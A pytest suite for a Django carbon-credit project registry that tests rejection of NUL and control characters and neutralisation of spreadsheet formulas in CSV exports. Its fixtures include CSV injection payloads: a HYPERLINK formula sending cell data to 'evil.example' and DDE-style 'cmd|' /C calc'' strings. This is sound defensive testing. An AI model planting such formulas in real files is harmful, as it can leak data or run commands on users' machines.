"""Bad input ("Trust under attack"): a NUL byte anywhere is a 400 naming the field, never a
server error (PostgreSQL cannot store or compare one); control characters are refused in
single-line text; every CSV the product writes neutralises cells a spreadsheet would run as a
formula, and the importer reads an export back unchanged. Nothing changes on a refusal."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.test import Client

from fees import services as fee_services
from fees.models import Payment
from jitrack.errors import Invalid
from projects import workflow as wf
from projects.admin import OrganisationForm, PartyForm
from projects.models import Comment, Document, Event, Organisation, Project
from registry.importer import import_projects
from tests.factories import OrganisationFactory, pdf_upload
from tests.support import (
    assert_error,
    create_body,
    csv_text,
    determination_invoice,
    html,
    login,
    row,
)

pytestmark = pytest.mark.django_db


def counts() -> tuple[int, ...]:
    return (
        Project.objects.count(),
        Event.objects.count(),
        Organisation.objects.count(),
        Comment.objects.count(),
        Document.objects.count(),
    )


# --- NUL: the API ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("participants", ["Green Carbon\x00 Ltd"]),
        ("participants", ["\x00"]),
        ("host_party", "U\x00"),
        ("parties_involved", ["J\x00"]),
        ("title", "Wind\x00park"),
        ("expected_reductions", [{"year": 2009, "tonnes": "1\x00"}]),
    ],
)
def test_nul_in_a_project_created_through_the_api_is_400(cycle, pp_api, field, value):
    before = counts()
    r = pp_api.post("/api/projects/", create_body(**{field: value}), format="json")
    body = assert_error(r, 400, "invalid", field=field)
    assert body["detail"] == f"{field}: Null characters are not allowed."
    assert counts() == before


@pytest.mark.parametrize(
    ("field", "value"), [("participants", ["A\x00"]), ("host_party", "\x00A"), ("title", "\x00")]
)
def test_nul_in_a_project_edited_through_the_api_is_400(cycle, pp_api, field, value):
    project = cycle.draft()
    before = counts()
    r = pp_api.patch(f"/api/projects/{project.key}/", {field: value}, format="json")
    assert_error(r, 400, "invalid", field=field)
    assert counts() == before
    assert Project.objects.get(pk=project.pk).title == project.title


@pytest.mark.parametrize("action", ["engage", "change-aie"])
def test_nul_in_an_aie_given_by_name_is_400(cycle, pp_api, action):
    project = cycle.draft() if action == "engage" else cycle.engaged()
    before = counts()
    r = pp_api.post(
        f"/api/projects/{project.key}/{action}/",
        {"aie": "Bureau Veritas\x00", "reason": "Our AIE closed."},
        format="json",
    )
    assert_error(r, 400, "invalid", field="aie")
    assert counts() == before


def test_nul_in_a_name_of_the_json_body_is_400_without_a_field(cycle, pp_api):
    before = counts()
    r = pp_api.post("/api/projects/", {**create_body(), "title\x00": "x"}, format="json")
    body = assert_error(r, 400, "invalid")
    assert "field" not in body
    assert counts() == before


@pytest.mark.parametrize("fmt", ["multipart", None])
def test_nul_in_a_form_encoded_api_body_is_400(cycle, pp_api, fmt):
    project = cycle.draft()
    before = counts()
    data = {"aie": "\x00", "kind": "pdd"}
    r = pp_api.post(
        f"/api/projects/{project.key}/engage/", data, **({"format": fmt} if fmt else {})
    )
    assert_error(r, 400, "invalid", field="aie")
    r = pp_api.post(
        f"/api/projects/{project.key}/documents/",
        {"kind": "pdd", "title": "PDD\x00", "file": pdf_upload()},
        format="multipart",
    )
    assert_error(r, 400, "invalid", field="title")
    assert counts() == before


# --- NUL: the registry's filters, pages and forms -----------------------------------------------


FILTERS = ["aie", "host_party", "q", "status", "scope", "section", "from", "to"]


@pytest.mark.parametrize("param", FILTERS)
def test_nul_in_a_registry_filter_is_refused_everywhere(cycle, client, param):
    cycle.open()
    query = {param: "x\x00y"}
    assert_error(client.get("/api/projects/", query), 400, "invalid", field=param)
    for url in ("/opendata/projects.csv", "/opendata/projects.json"):
        response = client.get(url, query)
        assert response.status_code == 400, url
        assert param in response.json()["errors"]
    assert client.get("/opendata/", query).status_code == 400
    # A section's page refuses it in the filters it has, and ignores the others.
    for url in ("/projects/", "/projects/open/", "/registry/pdds-open/"):
        assert client.get(url, query).status_code in (200, 400), url
    if param != "section":
        assert client.get("/projects/", query).status_code == 400


def test_nul_in_the_new_project_form_is_a_form_error(cycle, participant, ukraine):
    client = login(Client(), participant)
    before = counts()
    for field, value in [
        ("title", "Wind\x00park"),
        ("host_party", "U\x00"),
        ("participants", "\x00"),
        ("sectoral_scopes", "1\x00"),
    ]:
        data = {
            "title": "Wind park",
            "host_party": ukraine.pk,
            "sectoral_scopes": ["1"],
            "baseline_approach": "ji_specific",
            "expected": "2009: 1000",
            field: value,
        }
        response = client.post("/projects/new/", data)
        assert response.status_code == 400, field
        assert 'role="alert"' in html(response), field
    assert counts() == before


def test_nul_in_the_public_comment_form_is_a_form_error(cycle, client):
    project = cycle.open()
    before = counts()
    data = {"name": "Ann", "category": "observer", "email": "ann@example.org", "text": "Fine."}
    for field in ("name", "affiliation", "text"):
        response = client.post(f"/projects/{project.key}/comments/", {**data, field: "a\x00b"})
        assert response.status_code == 400, field
        assert "Null characters are not allowed." in html(response), field
    assert counts() == before


# --- NUL and control characters: the importer -------------------------------------------------


@pytest.mark.parametrize("column", ["participants", "aie", "host_party", "title", "reference"])
@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x85"])
def test_the_importer_refuses_control_characters_in_any_cell(ukraine, japan, scopes, column, char):
    before = counts()
    # inside the cell: the importer strips a cell, and Python counts U+0085 as white space
    value = {"host_party": f"U{char}A", "reference": f"05{char}00"}.get(column, f"Green{char}Co")
    with pytest.raises(wf.Invalid) as info:
        import_projects(csv_text(row(**{"reference": "0500", column: value})))
    reason = f"contains the control character U+{ord(char):04X}"
    assert (2, column, reason) in [(e.line, e.column, e.reason) for e in info.value.errors]
    assert counts() == before


def test_the_import_page_lists_a_nul_as_a_row_error(ukraine, japan, scopes, secretariat):
    client = login(Client(), secretariat)
    before = counts()
    upload = io.BytesIO(csv_text(row(reference="0500", participants="A\x00B")).encode())
    upload.name = "projects.csv"
    response = client.post("/projects/import/", {"file": upload})
    assert response.status_code == 400
    assert "<td>participants</td><td>contains the control character U+0000</td>" in html(response)
    assert counts() == before


# --- control characters in single-line text -----------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "char"),
    [
        ("title", "Wind\x07park", "U+0007"),
        ("title", "Wind\tpark", "U+0009"),
        ("title", "Wind\npark", "U+000A"),
        ("title", "Wind\x7fpark", "U+007F"),
        ("title", "Wind\x9bpark", "U+009B"),
        ("methodology", "ACM\x1b0001", "U+001B"),
        ("monitoring_approach", "Metered\x0bflow", "U+000B"),
    ],
)
def test_control_characters_in_a_project_are_400_naming_the_field(
    cycle, pp_api, field, value, char
):
    before = counts()
    r = pp_api.post("/api/projects/", create_body(**{field: value}), format="json")
    body = assert_error(r, 400, "control_character", field=field)
    assert body["detail"] == f"Remove the invisible control character {char} from this text."
    draft = cycle.draft()
    r = pp_api.patch(f"/api/projects/{draft.key}/", {field: value}, format="json")
    assert_error(r, 400, "control_character", field=field)
    assert counts() == (before[0] + 1, before[1] + 1, *before[2:])


def test_lines_tabs_and_trailing_breaks_are_kept_where_they_belong(cycle, pp_api):
    body = create_body(title="Wind park\n", monitoring_approach="Metered:\n\tflow\r\n\tmethane")
    r = pp_api.post("/api/projects/", body, format="json")
    assert r.status_code == 201, r.content
    project = Project.objects.get(title="Wind park")
    assert project.monitoring_approach == "Metered:\n\tflow\r\n\tmethane"


def test_control_characters_in_the_project_form_are_a_form_error(cycle, participant, ukraine):
    client = login(Client(), participant)
    before = counts()
    data = {
        "title": "Wind\x1bpark",
        "host_party": ukraine.pk,
        "sectoral_scopes": ["1"],
        "baseline_approach": "ji_specific",
        "expected": "2009: 1000",
    }
    response = client.post("/projects/new/", data)
    assert response.status_code == 400
    assert "Remove the invisible control character U+001B from this text." in html(response)
    project = cycle.draft()
    response = client.post(f"/projects/{project.key}/edit/", {**data, "title": "Wind\x85park"})
    assert response.status_code == 400
    assert "Remove the invisible control character U+0085 from this text." in html(response)
    assert counts() == (before[0] + 1, before[1] + 1, *before[2:])


@pytest.mark.parametrize(("field", "value"), [("name", "Ann\x7f"), ("affiliation", "\x9bEco")])
def test_control_characters_in_a_comment_are_refused(cycle, anon, client, field, value):
    project = cycle.open()
    before = counts()
    data = {"name": "Ann", "category": "observer", "email": "ann@example.org", "text": "Fine."}
    r = anon.post(f"/api/projects/{project.key}/comments/", {**data, field: value}, format="json")
    assert_error(r, 400, "control_character", field=field)
    response = client.post(f"/projects/{project.key}/comments/", {**data, field: value})
    assert response.status_code == 400
    assert "Remove the invisible control character" in html(response)
    assert counts() == before


def test_a_comment_form_refusal_speaks_russian(cycle, client):
    project = cycle.open()
    data = {"name": "Анна\x1b", "category": "observer", "email": "a@example.org", "text": "Да."}
    response = client.post(f"/projects/{project.key}/comments/", data, HTTP_ACCEPT_LANGUAGE="ru")
    assert response.status_code == 400
    assert "Удалите из текста невидимый управляющий символ U+001B." in html(response)


def test_control_characters_in_a_document_title_are_400(cycle, pp_api):
    project = cycle.draft()
    before = counts()
    r = pp_api.post(
        f"/api/projects/{project.key}/documents/",
        {"kind": "pdd", "title": "PDD\x1b v2", "file": pdf_upload()},
        format="multipart",
    )
    assert_error(r, 400, "control_character", field="title")
    assert counts() == before


def test_organisation_and_party_names_are_one_line_in_the_admin():
    data = {"name": "Green\x1bCarbon", "kind": "participant", "email": ""}
    form = OrganisationForm(data=data)
    assert not form.is_valid()
    assert form.errors["name"] == ["Remove the invisible control character U+001B from this text."]
    assert OrganisationForm(data={**data, "name": "Green Carbon"}).is_valid()
    form = PartyForm(data={"code": "QQ", "name": "Ruritania\x9b"})
    assert not form.is_valid()
    assert form.errors["name"] == ["Remove the invisible control character U+009B from this text."]
    assert PartyForm(data={"code": "QQ", "name": "Ruritania"}).is_valid()


# --- CSV: formula cells ---------------------------------------------------------------------------


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


def test_open_data_csv_neutralises_formula_cells(cycle, participant):
    partner = OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    cycle.open(title=FORMULA_TITLE, participants=[partner])
    cycle.open(title="-5 MW wind farm", methodology="+ACM0002")
    response = Client().get("/opendata/projects.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_reference = {r["reference"]: r for r in rows}
    assert by_reference["0001"]["title"] == "'" + FORMULA_TITLE
    assert by_reference["0001"]["participants"] == (
        "'@SUM(1+1)*cmd|' /C calc'!A0; Green Carbon Ltd"
    )
    assert by_reference["0002"]["title"] == "'-5 MW wind farm"
    assert by_reference["0002"]["expected_annual_reductions"] == "50000"


def test_export_neutralises_formula_cells_and_imports_back_unchanged(ukraine, japan, scopes):
    titles = {
        "0001": FORMULA_TITLE,
        "0002": "-5 MW wind farm",
        "0003": "'=already quoted",
        "0004": "@SUM(A1)",
        "0005": "'s-Hertogenbosch district heating",
        "0006": "Wind farm at Odesa",
    }
    import_projects(
        csv_text(
            *(row(reference=ref) for ref in titles),
            row(reference="0007", participants="+cmd|' /C calc'!A0;Green Carbon Ltd"),
        )
    )
    for reference, title in titles.items():  # as typed on the site
        Project.objects.filter(reference=reference).update(title=title)
    out = io.StringIO()
    call_command("export_projects", stdout=out)
    exported = out.getvalue()
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(exported))}
    assert {ref: rows[ref]["title"] for ref in titles} == {
        "0001": "'" + FORMULA_TITLE,
        "0002": "'-5 MW wind farm",
        "0003": "''=already quoted",
        "0004": "'@SUM(A1)",
        "0005": "'s-Hertogenbosch district heating",
        "0006": "Wind farm at Odesa",
    }
    assert rows["0007"]["participants"] == "'+cmd|' /C calc'!A0;Green Carbon Ltd"
    assert rows["0001"]["expected_annual_reductions"] == "50000"
    before = counts()
    result = import_projects(exported)
    assert result.created == [] and len(result.unchanged) == 7
    assert counts() == before
    assert Organisation.objects.filter(name="+cmd|' /C calc'!A0").exists()
    assert dict(Project.objects.values_list("reference", "title")) == {
        **titles,
        "0007": row()["title"],
    }


# --- dates out of the rules' range ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("crediting_start", "0001-01-01"),
        ("crediting_start", "1999-12-31"),
        ("crediting_end", "9999-12-31"),
    ],
)
def test_a_crediting_period_outside_2000_to_2100_is_400(cycle, pp_api, field, value):
    before = counts()
    r = pp_api.post("/api/projects/", create_body(**{field: value}), format="json")
    assert_error(r, 400, "invalid", field=field)
    assert counts() == before


@pytest.mark.parametrize("day", [dt.date(1, 1, 1), dt.date(2005, 12, 31)])
def test_a_payment_dated_before_the_fees_existed_is_refused(cycle, day):
    project = cycle.determination_submitted()
    invoice = determination_invoice(project)
    with pytest.raises(Invalid) as err:
        fee_services.record_payment(
            cycle.secretariat, invoice, amount="100.00", received_on=day, reference="OLD-1"
        )
    assert err.value.field == "received_on" and "2006" in err.value.detail
    assert not Payment.objects.exists()
